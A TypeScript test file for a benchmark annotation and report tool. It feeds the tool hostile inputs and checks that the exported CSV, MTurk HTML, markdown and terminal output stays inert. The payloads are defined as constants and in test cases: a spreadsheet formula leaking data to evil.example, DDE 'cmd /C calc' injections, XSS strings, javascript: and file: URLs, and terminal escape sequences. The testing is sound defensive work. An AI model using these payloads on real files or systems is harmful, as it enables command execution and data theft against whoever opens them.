/**
 * The bad-input table of the files people open (issue 17, scope 6): hostile text in KBs, labels,
 * judgements, report files and server answers must reach spreadsheets, browsers (MTurk HITs),
 * markdown viewers and terminals inert. Rows that succeed check the written files themselves.
 * The escapers' properties over arbitrary strings are in test/unit/util/escape.test.ts.
 */
import { existsSync } from "node:fs";
import { mkdtemp, readFile, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { expect } from "vitest";
import { REDRAW_LINE, restoreSheetCell } from "../../harness/util/escape.ts";
import { type BadInputCase, badInputTable, kbLine } from "../helpers/bad-input-table.ts";
import { runHarness } from "../helpers/cli.ts";
import { evalBaselines } from "../helpers/reports.ts";

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const DDE = "+cmd|' /C calc'!A0";
const MINUS = "-2+3+cmd|' /C calc'!A0";
const AT = "@SUM(1+1)*cmd|' /C calc'!A0";
const SCRIPT = "<img src=x onerror=alert(1)>";
const TEXTAREA = "</textarea><script>alert(1)</script>";
// biome-ignore lint/suspicious/noTemplateCurlyInString: MTurk's own ${name} syntax, as an attack.
const TEMPLATE = "${product_b}${intention}";
const ESC = "\u001b]0;pwned\u0007\u001b[2J\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\\u202e\u009b31m";
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const PLAIN_NUMBER = /^[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?$/;
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** A KB whose every text field is an attack on a spreadsheet, a browser or a terminal. */
const HOSTILE_KB = [
  kbLine({ Product_a: FORMULA, Product_b: DDE, Intention: MINUS, Agreement: `Yes ${AT}` }),
  kbLine({ id_a: "@A2", id_b: "\tB2", Product_a: "\uFF1Dcmd|' /C calc'!A0", Product_b: "\rB", Intention: "\t=1+1", Agreement: "Yes" }),
  kbLine({ Product_a: SCRIPT, Product_b: TEXTAREA, Intention: TEMPLATE, Agreement: 'Yes "quoted" & <b>bold</b>' }),
  kbLine({ Relation: FORMULA, Intention: "a relation that is a formula", id_a: "A4" }),
  kbLine({ Product_a: ESC, Intention: `escapes ${ESC}`, id_a: "A5" }),
  kbLine({ Product_a: "'already quoted", Intention: "'=half quoted", id_a: "A6" }),
].join("\n");

const EXPORT = "annotate export --kb {dir}/kb.jsonl --total 50";
const files = { "kb.jsonl": `${HOSTILE_KB}\n` };

async function readSheet(path: string): Promise<string[][]> {
  return parse(await readFile(path), { relax_column_count: true }) as string[][];
}

/** No written cell is a live formula: each starts with no trigger (plain numbers aside). */
function expectInert(rows: string[][]): void {
  for (const row of rows)
    for (const cell of row)
      expect(FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell), `live formula: ${JSON.stringify(cell)}`).toBe(false);
}

function expectNoControls(...texts: string[]): void {
  for (const text of texts) expect(text, "a terminal control").not.toMatch(CONTROLS);
}

/** A markdown table: every row has as many unescaped "|" as its header; no raw tag outside code spans; no terminal control. */
function expectIntactMarkdown(markdown: string): void {
  // Code spans show their text as written (no tag inside one is HTML); everywhere else no tag at all.
  expect(markdown.replace(/`[^`\n]*`/g, "")).not.toMatch(/<(script|img|textarea)/i);
  const lines = markdown.split("\n");
  for (let i = 0; i < lines.length; i++) {
    if (!lines[i]!.startsWith("| ") || (i > 0 && lines[i - 1]!.startsWith("|"))) continue;
    const pipes = (line: string) => [...line.matchAll(/(\\*)\|/g)].filter((m) => m[1]!.length % 2 === 0).length;
    const width = pipes(lines[i]!);
    for (let j = i; j < lines.length && lines[j]!.startsWith("|"); j++) expect(pipes(lines[j]!), lines[j]).toBe(width);
  }
  expectNoControls(markdown);
}

/** Two real reports (the baselines on the real benchmark, 40 questions) whose labels are attacks; made once. */
let hostileReports: Promise<{ random: string; majority: string }> | undefined;
const reports = () => {
  hostileReports ??= mkdtemp(join(tmpdir(), "people-reports-")).then((dir) =>
    evalBaselines(dir, {
      limit: 40,
      labels: {
        random: { backbone: FORMULA, recipe: `${SCRIPT}|x\ny` },
        majority: { backbone: `${ESC}`, recipe: `${TEXTAREA}|z` },
      },
    }),
  );
  return hostileReports;
};
const REPORT_FILES = {
  "base/report.json": async () => readFile((await reports()).random),
  "head/report.json": async () => readFile((await reports()).majority),
};
const REPORT = "report {dir}/base/report.json {dir}/head/report.json";
const DIFF = "diff {dir}/base/report.json {dir}/head/report.json --allow-partial";

/** Long-form judgements naming hostile relations (unknown to Table 1, so printed as written). */
const JUDGEMENTS = [
  "item_id,annotator,question,label,relation",
  ...[1, 2, 3].flatMap((a) => [
    `x:1,a${a},plausible,yes,"${FORMULA.replaceAll('"', '""')}"`,
    `x:2,a${a},plausible,no,"${`${SCRIPT}|col`.replaceAll('"', '""')}"`,
    `x:3,a${a},plausible,yes,"${ESC.replaceAll('"', '""')}"`,
  ]),
].join("\n");

/** A model name that is an attack on the terminal; the {url} server serves it. */
const ESC_MODEL = "\u001b[2Jm\u202e";

const cases: Record<string, BadInputCase> = {
  // annotate export: the sheet annotators open in a spreadsheet
  "annotate export: formula cells (= + - @) in products, intention and rationale are quoted": {
    args: `${EXPORT} --out {dir}/sheet.csv`,
    exit: 0,
    message: "",
    files,
    check: async (_r, { dir }) => {
      const rows = await readSheet(join(dir, "sheet.csv"));
      expectInert(rows);
      const text = rows.flat().map(restoreSheetCell);
      for (const value of [FORMULA, DDE, MINUS, `Yes ${AT}`]) expect(text).toContain(value);
      expect(await readFile(join(dir, "sheet.csv"), "utf8")).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
    },
  },
  "annotate export: tab-, CR- and full-width-led cells and ids are quoted too": {
    args: `${EXPORT} --out {dir}/sheet.csv`,
    exit: 0,
    message: "",
    files,
    check: async (_r, { dir }) => {
      const rows = await readSheet(join(dir, "sheet.csv"));
      expectInert(rows);
      const text = rows.flat().map(restoreSheetCell);
      for (const value of ["@A2", "\tB2", "\uFF1Dcmd|' /C calc'!A0", "\rB", "\t=1+1"]) expect(text).toContain(value);
    },
  },
  "annotate export: a cell already starting with a quote keeps it, exactly, after a round trip": {
    args: `${EXPORT} --out {dir}/sheet.csv`,
    exit: 0,
    message: "",
    files,
    check: async (_r, { dir }) => {
      const text = (await readSheet(join(dir, "sheet.csv"))).flat();
      expect(text).toContain("''already quoted");
      expect(text.map(restoreSheetCell)).toContain("'=half quoted");
    },
  },
  "annotate export + score: a sheet whose item ids are formulas scores with the ids exactly as exported": {
    args: `${EXPORT} --out {dir}/sheet.csv`,
    exit: 0,
    message: "",
    files,
    check: async (_r, { dir }) => {
      // Fill the sheet as a spreadsheet would save it: every row judged by one annotator.
      const rows = await readSheet(join(dir, "sheet.csv"));
      const header = rows[0]!;
      const filled = [
        header,
        ...["ann1", "ann2"].flatMap((annotator) =>
          rows
            .slice(1)
            .map((row) =>
              row.map((cell, c) => (header[c] === "annotator" ? annotator : header[c] === "plausible" ? "yes" : restoreSheetCell(cell))),
            ),
        ),
      ];
      const { sheetCsv } = await import("../../harness/util/escape.ts");
      await writeFile(join(dir, "filled.csv"), sheetCsv(filled));
      const score = await runHarness(["annotate", "score", join(dir, "filled.csv"), "--sheet", join(dir, "sheet.csv"), "--format", "json"]);
      expect(score.exitCode, score.stderr).toBe(0);
      const result = JSON.parse(score.stdout);
      const plausible = result.questions.find((q: { question: string }) => q.question === "plausible");
      expect(plausible.overall.items).toBe(rows.length - 1);
      expect(Object.keys(plausible.perRelation)).toContain(FORMULA);
    },
  },
  "annotate export --layout mturk: <img onerror> in a product name is HTML-escaped in the batch": {
    args: `${EXPORT} --layout mturk --out {dir}/batch.csv`,
    exit: 0,
    message: "",
    files,
    check: async (_r, { dir }) => {
      const text = await readFile(join(dir, "batch.csv"), "utf8");
      expect(text).not.toMatch(/<img|<script|<\/textarea/i);
      expect(text).toContain("&lt;img src=x onerror=alert(1)&gt;");
      expectInert(await readSheet(join(dir, "batch.csv")));
    },
  },
  "annotate export --layout mturk: </textarea><script> and quotes in values cannot close an element or attribute": {
    args: `${EXPORT} --layout mturk --out {dir}/batch.csv`,
    exit: 0,
    message: "",
    files,
    check: async (_r, { dir }) => {
      const cells = (await readSheet(join(dir, "batch.csv"))).flat();
      expect(cells).toContain("&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;");
      for (const cell of cells) expect(cell).not.toMatch(/[<>"']/);
    },
  },
  "annotate export --layout mturk: ${...} in an intention is not a second MTurk variable": {
    args: `${EXPORT} --layout mturk --out {dir}/batch.csv`,
    exit: 0,
    message: "",
    files,
    check: async (_r, { dir }) => {
      const cells = (await readSheet(join(dir, "batch.csv"))).flat();
      expect(cells.join("\n")).not.toContain("${");
      expect(cells).toContain("&#36;{product_b}&#36;{intention}");
    },
  },
  "annotate export --layout mturk: formula values are inert in a spreadsheet yet read exactly by the worker": {
    args: `${EXPORT} --layout mturk --out {dir}/batch.csv`,
    exit: 0,
    message: "",
    files,
    check: async (_r, { dir }) => {
      const cells = (await readSheet(join(dir, "batch.csv"))).flat();
      expectInert([cells]);
      // "=" as the entity &#61;: a browser shows "=", a spreadsheet sees text.
      expect(cells).toContain(`&#61;HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;click&quot;)`);
    },
  },
  "annotate export --layout mturk --image-url-template: the id is one encoded path component": {
    args: `${EXPORT} --layout mturk --image-url-template https://cdn.example.com/img/{id}.jpg --out {dir}/batch.csv`,
    exit: 0,
    message: "",
    files: { "kb.jsonl": `${kbLine({ id_a: "../../admin?x=1#y", id_b: '"><script>alert(1)</script>' })}\n` },
    check: async (_r, { dir }) => {
      const [header, row] = await readSheet(join(dir, "batch.csv"));
      const a = row![header!.indexOf("image_a_url")]!;
      const b = row![header!.indexOf("image_b_url")]!;
      expect(a).toBe("https://cdn.example.com/img/..%2F..%2Fadmin%3Fx%3D1%23y.jpg");
      expect(b).toBe("https://cdn.example.com/img/%22%3E%3Cscript%3Ealert%281%29%3C%2Fscript%3E.jpg");
    },
  },
  "annotate export --hit-template: the template escapes its own text and leaves values to the batch": {
    args: `${EXPORT} --layout mturk --image-url-template https://cdn.example.com/{id} --hit-template {dir}/hit.html --out {dir}/batch.csv`,
    exit: 0,
    message: "",
    files,
    check: async (_r, { dir }) => {
      const hit = await readFile(join(dir, "hit.html"), "utf8");
      // The one script is crowd-html-elements; every value is a ${name} inside an element or a quoted attribute.
      expect(hit.match(/<script/g)).toHaveLength(1);
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the HIT template\'s MTurk variable.
      expect(hit).toContain('<img src="${image_a_url}"');
      expect(hit).not.toContain("evil");
    },
  },
  "annotate export --image-url-template javascript:": {
    args: `${EXPORT} --layout mturk --image-url-template javascript:alert(document.cookie)//{id} --out {dir}/batch.csv`,
    exit: 2,
    message: "--image-url-template",
    files,
    check: (_r, { dir }) => expect(existsSync(join(dir, "batch.csv"))).toBe(false),
  },
  "annotate export --image-url-template data:": {
    args: `${EXPORT} --image-url-template data:text/html,<script>{id}</script> --out {dir}/sheet.csv`,
    exit: 2,
    message: "expected an http:// or https:// URL or a relative path",
    files,
  },
  "annotate export --image-url-template file:": {
    args: `${EXPORT} --image-url-template file:///etc/{id} --out {dir}/sheet.csv`,
    exit: 2,
    message: "--image-url-template",
    files,
  },
  "annotate export --image-url-template with a tab in the scheme": {
    args: `${EXPORT} --image-url-template java\tscript:alert(1)/{id} --out {dir}/sheet.csv`,
    exit: 2,
    message: "no control characters",
    files,
  },
  "annotate score: MTurk results echo HTML-escaped item ids and relations, read back exactly": {
    args: `${EXPORT} --layout mturk --out {dir}/batch.csv`,
    exit: 0,
    message: "",
    files,
    check: async (_r, { dir }) => {
      const [header, ...rows] = await readSheet(join(dir, "batch.csv"));
      const results = [
        ["Input.item_id", "Input.relation", "WorkerId", "AssignmentStatus", "Answer.plausible"],
        ...rows.flatMap((row) =>
          ["w1", "w2"].map((w) => [row[header!.indexOf("item_id")]!, row[header!.indexOf("relation")]!, w, "Approved", "yes"]),
        ),
      ];
      const { sheetCsv } = await import("../../harness/util/escape.ts");
      await writeFile(join(dir, "results.csv"), sheetCsv(results));
      const score = await runHarness([
        "annotate",
        "score",
        join(dir, "results.csv"),
        "--sheet",
        join(dir, "batch.csv"),
        "--format",
        "json",
      ]);
      expect(score.exitCode, score.stderr).toBe(0);
      const plausible = JSON.parse(score.stdout).questions.find((q: { question: string }) => q.question === "plausible");
      expect(plausible.overall.items).toBe(rows.length);
      expect(Object.keys(plausible.perRelation)).toContain(FORMULA);
    },
  },

  // annotate score: relation names from a judgements file
  "annotate score --format csv: hostile relation names are quoted cells": {
    args: "annotate score {dir}/judgements.csv --format csv --out {dir}/scores.csv",
    exit: 0,
    message: "wrote",
    files: { "judgements.csv": JUDGEMENTS },
    check: async (_r, { dir }) => {
      const rows = await readSheet(join(dir, "scores.csv"));
      expectInert(rows);
      expect(rows.flat().map(restoreSheetCell)).toContain(FORMULA);
    },
  },
  "annotate score --format markdown: <img> and | in a relation neither render nor break the table": {
    args: "annotate score {dir}/judgements.csv --format markdown --out {dir}/scores.md",
    exit: 0,
    message: "wrote",
    files: { "judgements.csv": JUDGEMENTS },
    check: async (_r, { dir }) => {
      const markdown = await readFile(join(dir, "scores.md"), "utf8");
      expectIntactMarkdown(markdown);
      expect(markdown).toContain("&lt;img src=x onerror=alert(1)&gt;\\|col");
    },
  },
  "annotate score (terminal): escape sequences in a relation are shown, not run": {
    args: "annotate score {dir}/judgements.csv",
    exit: 0,
    message: "",
    files: { "judgements.csv": JUDGEMENTS },
    check: (r) => {
      expectNoControls(r.stdout, r.stderr);
      expect(r.stdout).toContain("\\u001b]0;pwned\\u0007");
    },
  },
  "annotate score: a file name with escape sequences in the error line": {
    args: "annotate score {dir}/\u001b[2J\u001b]0;title\u0007.csv",
    exit: 2,
    message: "\\u001b[2J\\u001b]0;title\\u0007.csv: no such file",
    check: (r) => expectNoControls(r.stderr),
  },

  // report and diff: labels come from report files
  "report --format csv: formula labels are quoted cells": {
    args: `${REPORT} --format csv --out {dir}/t.csv`,
    exit: 0,
    message: "wrote",
    files: REPORT_FILES,
    check: async (_r, { dir }) => {
      const rows = await readSheet(join(dir, "t.csv"));
      expectInert(rows);
      expect(rows.flat().map(restoreSheetCell).join("\n")).toContain(FORMULA);
    },
  },
  "report --format csv --gap: negative gaps stay numbers": {
    args: `${REPORT} --format csv --published --gap --out {dir}/t.csv`,
    exit: 0,
    message: "wrote",
    files: REPORT_FILES,
    check: async (_r, { dir }) => {
      const cells = (await readSheet(join(dir, "t.csv"))).flat();
      expect(cells.some((c) => /^-\d+\.\d+$/.test(c))).toBe(true);
      expect(cells.some((c) => /^'-\d/.test(c))).toBe(false);
    },
  },
  "report --format markdown: labels with <img>, | and newlines make no tag and keep the table": {
    args: `${REPORT} --format markdown --out {dir}/t.md`,
    exit: 0,
    message: "wrote",
    files: REPORT_FILES,
    check: async (_r, { dir }) => expectIntactMarkdown(await readFile(join(dir, "t.md"), "utf8")),
  },
  "report (terminal): escape sequences and U+202E in labels are shown, not run": {
    args: REPORT,
    exit: 0,
    message: "",
    files: REPORT_FILES,
    check: (r) => {
      expectNoControls(r.stdout, r.stderr);
      expect(r.stdout).toContain("\\u001b[2J");
      expect(r.stdout).toContain("\\u202e");
    },
  },
  "report --format html: hostile labels stay text": {
    args: `${REPORT} --format html --out {dir}/t.html`,
    exit: 0,
    message: "wrote",
    files: REPORT_FILES,
    check: async (_r, { dir }) => {
      const html = await readFile(join(dir, "t.html"), "utf8");
      // The only scripts are the charts' inert Vega-Lite JSON blocks, whose text holds no "<" at all.
      const dataBlock = /<script type="application\/json" class="vega-lite">([^<]*)<\/script>/g;
      expect(html).toMatch(dataBlock);
      for (const [, json] of html.matchAll(dataBlock)) JSON.parse(json!);
      expect(html.replace(dataBlock, "")).not.toMatch(/<(script|img|textarea)/i);
    },
  },
  "report --format json to stdout: still JSON with the labels exactly": {
    args: `${REPORT} --format json`,
    exit: 0,
    message: "",
    files: REPORT_FILES,
    check: (r) => {
      expectNoControls(r.stdout);
      const rows = JSON.parse(r.stdout).tables.flatMap((t: { blocks: Array<{ rows: Array<{ label: string }> }> }) =>
        t.blocks.flatMap((b) => b.rows.map((row) => row.label)),
      );
      expect(rows.join("\n")).toContain(ESC);
    },
  },
  "diff --format markdown: a PR comment with hostile labels makes no tag and keeps its tables": {
    args: `${DIFF} --format markdown --out {dir}/diff.md`,
    exit: 0,
    message: "wrote",
    files: REPORT_FILES,
    check: async (_r, { dir }) => expectIntactMarkdown(await readFile(join(dir, "diff.md"), "utf8")),
  },
  "diff --format markdown: report paths with | and ` stay inside their code spans": {
    args: "diff {dir}/a|b/report.json {dir}/c`d/report.json --allow-partial --format markdown --out {dir}/diff.md",
    exit: 0,
    message: "wrote",
    files: {
      "a|b/report.json": async () => readFile((await reports()).random),
      "c`d/report.json": async () => readFile((await reports()).majority),
    },
    check: async (_r, { dir }) => {
      const markdown = await readFile(join(dir, "diff.md"), "utf8");
      expectIntactMarkdown(markdown);
      expect(markdown).toContain("a\\|b/report.json");
      expect(markdown).toContain("c'd/report.json");
    },
  },
  "diff (terminal): escape sequences in labels are shown, not run": {
    args: DIFF,
    exit: 0,
    message: "",
    files: REPORT_FILES,
    check: (r) => expectNoControls(r.stdout, r.stderr),
  },

  // eval, distill, critic: model names, labels and server text
  "eval: a server error with escape sequences is shown, not run": {
    args: "eval --data {data} --cache-dir {dir}/cache --out {dir}/reports --progress false --task understanding --limit 2 --model openai:esc500 --base-url {url} --retries 0",
    exit: 3,
    message: "",
    check: (r) => {
      expectNoControls(r.stdout, r.stderr);
      expect(r.stderr).toContain("\\u001b]0;pwned");
    },
  },
  "eval: a model name and labels with escape sequences, in the table, report.md and progress": {
    args: `eval --data {data} --cache-dir {dir}/cache --out {dir}/reports --run-id r --progress true --task understanding --limit 2 --base-url {url} --model openai:${ESC_MODEL} --label backbone=\u001b]0;t\u0007|<script>`,
    exit: 0,
    message: "",
    check: async (r, { dir }) => {
      // The progress bar's own redraw is the one control sequence written; the model name in it is inert.
      expectNoControls(r.stdout, r.stderr.replaceAll(REDRAW_LINE, ""));
      expect(r.stderr).toContain(`${REDRAW_LINE}openai:\\u001b[2Jm\\u202e understanding [`);
      const markdown = await readFile(join(dir, "reports", "r", "report.md"), "utf8");
      expectIntactMarkdown(markdown);
    },
  },
  "distill: server text with escape sequences in the failure lines": {
    args: "distill --records {dir}/pairs.jsonl --relations usedFor --text-only --base-url {url} --model esc500 --retries 0 --cache-dir {dir}/cache --out {dir}/kb --progress false",
    exit: 3,
    message: "",
    files: { "pairs.jsonl": `${JSON.stringify({ id_a: "A1", id_b: "B1", name_a: "Shoe", name_b: "Sock" })}\n` },
    check: (r) => expectNoControls(r.stdout, r.stderr),
  },
  "critic: server text with escape sequences, and a score sheet with formula intentions quoted": {
    args: "critic --kb {dir}/kb.jsonl --model test-model --base-url {url} --cache-dir {dir}/cache --out {dir}/critic.csv",
    exit: 0,
    message: "",
    files,
    check: async (r, { dir }) => {
      expectNoControls(r.stdout, r.stderr);
      expectInert(await readSheet(join(dir, "critic.csv")));
    },
  },
};

/** A model whose every answer is an error full of terminal escapes. */
badInputTable("what people open: sheets, HIT pages, markdown and terminals get hostile text inert", cases, {
  models: ["esc500", ESC_MODEL],
  chat: (body) => (body["model"] === "esc500" ? { status: 500, body: { error: { message: `boom ${ESC}` } } } : undefined),
});
